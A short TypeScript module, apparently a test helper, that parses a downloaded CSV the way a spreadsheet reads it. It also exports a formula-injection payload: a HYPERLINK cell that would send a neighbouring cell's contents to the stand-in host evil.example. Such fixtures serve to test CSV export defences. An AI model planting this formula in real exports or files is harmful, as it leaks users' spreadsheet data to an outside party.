import { parse } from 'csv-parse/sync';

/** A downloaded CSV as a spreadsheet reads it: the BOM dropped, semicolons, quotes undone. */
export function csvCells(body: string | Buffer): string[][] {
  const text = (typeof body === 'string' ? body : body.toString('utf8')).replace(/^\uFEFF/, '');
  const rows: string[][] = parse(text, { delimiter: ';', relax_column_count: true });
  return rows;
}

/** A cell a spreadsheet would run as a formula: a link that sends the next cell away. */
export const FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"x")';
